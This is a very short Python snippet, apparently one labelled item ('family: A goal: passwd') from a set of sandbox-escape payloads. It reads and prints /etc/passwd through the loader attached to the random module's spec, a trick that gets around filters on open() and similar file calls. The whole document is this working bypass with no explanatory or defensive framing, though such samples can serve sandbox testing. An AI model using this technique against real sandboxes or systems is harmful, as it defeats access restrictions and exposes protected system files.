# family: A   goal: passwd
from random import __spec__ as s
print(s.loader.get_data("/etc/passwd").decode())
